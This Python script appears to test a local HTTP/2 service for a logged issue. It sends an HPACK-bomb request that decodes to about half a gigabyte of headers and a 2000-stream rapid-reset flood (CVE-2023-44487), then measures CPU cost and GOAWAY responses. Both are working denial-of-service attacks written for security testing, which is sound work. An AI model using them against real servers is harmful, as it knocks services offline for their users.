#!/usr/bin/python3
"""An HPACK bomb against akmad's SBI (issue 13 item 3), by raw HTTP/2 frames.

One 4000-octet header enters the HPACK dynamic table; then the header block
refers to it one octet at a time (index 62), 8 frames of 16384 octets, so a
130 kB request decodes to ~0.5 GB of header list. Usage:
    hpack_bomb.py PORT PID BOMBS
prints: announced=<SETTINGS_MAX_HEADER_LIST_SIZE or none> bombs=<sent>
        goaway=<error code or none> cpu_ms_per_bomb=<SBI thread> small=<answered>
        rapid_reset_goaway=<error code or none>
"""
import os, socket, struct, sys, time

from h2raw import PREFACE, frame, sbi_thread_ticks

port, pid, bombs = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])

def hpack_int(prefix_bits, first, n):
    top = (1 << prefix_bits) - 1
    if n < top:
        return bytes([first | n])
    out, n = [first | top], n - top
    while n >= 128:
        out.append(0x80 | (n & 0x7F))
        n >>= 7
    return bytes(out + [n])

def literal_indexed(name, value):   # literal with incremental indexing, new name
    return b"\x40" + hpack_int(7, 0, len(name)) + name + hpack_int(7, 0, len(value)) + value

def read_frames(s, until):
    """Frames (type, flags, payload) until `until` says stop, the peer closes or 5 s pass."""
    buf, got, deadline = b"", [], time.time() + 5
    while time.time() < deadline:
        while len(buf) >= 9:
            n = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + n:
                break
            got.append((buf[3], buf[4], buf[9:9 + n]))
            buf = buf[9 + n:]
            if until(got):
                return got, False
        s.settimeout(max(0.05, deadline - time.time()))
        try:
            x = s.recv(65536)
        except socket.timeout:
            break
        except OSError:
            return got, True
        if not x:
            return got, True
        buf += x
    return got, False

def connect():
    """A connection past the SETTINGS exchange, and the header list size it announced."""
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(PREFACE + frame(4, 0, 0, b""))
    got, _ = read_frames(s, lambda g: any(t == 4 and not f & 1 for t, f, _ in g))
    announced = "none"
    for t, f, p in got:
        if t == 4 and not f & 1:
            for i in range(0, len(p) - 5, 6):
                ident, val = struct.unpack(">HI", p[i:i + 6])
                if ident == 6:
                    announced = str(val)
    s.sendall(frame(4, 1, 0, b""))   # SETTINGS ack
    return s, announced

s, announced = connect()

# A request under any sane limit, with one 4000-octet header: still served.
block = b"\x82\x86\x84\x01\x09localhost" + literal_indexed(b"x-pad", b"p" * 4000)
s.sendall(frame(1, 0x5, 1, block))   # END_STREAM | END_HEADERS
got, closed = read_frames(s, lambda g: any(t == 1 for t, _, _ in g))
small = "answered" if any(t == 1 for t, _, _ in got) else "nothing"

# Each bomb on the connection the last one left open, or on a new one.
c0, sent, goaway, sid = sbi_thread_ticks(pid), 0, "none", 1
for k in range(bombs):
    sid += 2
    block = b"\x82\x86\x84\x01\x09localhost" + literal_indexed(b"x-bomb", b"b" * 4000)
    block += b"\xbe" * (8 * 16384 - len(block))
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    try:
        s.sendall(frame(1, 0x1 | (0x4 if len(chunks) == 1 else 0), sid, chunks[0]))
        for i, ch in enumerate(chunks[1:]):
            s.sendall(frame(9, 0x4 if i == len(chunks) - 2 else 0, sid, ch))
    except OSError:                  # closed while we sent: it counts
        sent += 1
        goaway = "closed" if goaway == "none" else goaway
        s.close()
        s, _ = connect()
        sid = 1
        continue
    sent += 1
    # wait for its answer (or the GOAWAY) so the cost lands before we measure
    got, closed = read_frames(s, lambda g: any(t in (1, 3, 7) for t, _, _ in g))
    for t, f, p in got:
        if t == 7 and len(p) >= 8 and goaway in ("none", "closed"):
            goaway = "0x%x" % struct.unpack(">I", p[4:8])[0]
    if closed or any(t == 7 for t, _, _ in got):
        s.close()
        s, _ = connect()
        sid = 1
cpu_ms = (sbi_thread_ticks(pid) - c0) * 1000.0 / os.sysconf("SC_CLK_TCK")

# Rapid reset (CVE-2023-44487): open and cancel streams at once, 2000 of them.
s.close()
s, _ = connect()
reset = "none"
try:
    for k in range(2000):
        sid = 1 + 2 * k
        s.sendall(frame(1, 0x4, sid, b"\x82\x86\x84\x01\x09localhost")
                  + frame(3, 0, sid, struct.pack(">I", 8)))
except OSError:
    pass
got, _ = read_frames(s, lambda g: any(t == 7 for t, _, _ in g))
for t, f, p in got:
    if t == 7 and len(p) >= 8:
        reset = "0x%x" % struct.unpack(">I", p[4:8])[0]
print("announced=%s bombs=%d goaway=%s cpu_ms_per_bomb=%.1f small=%s rapid_reset_goaway=%s"
      % (announced, sent, goaway, cpu_ms / max(sent, 1), small, reset))
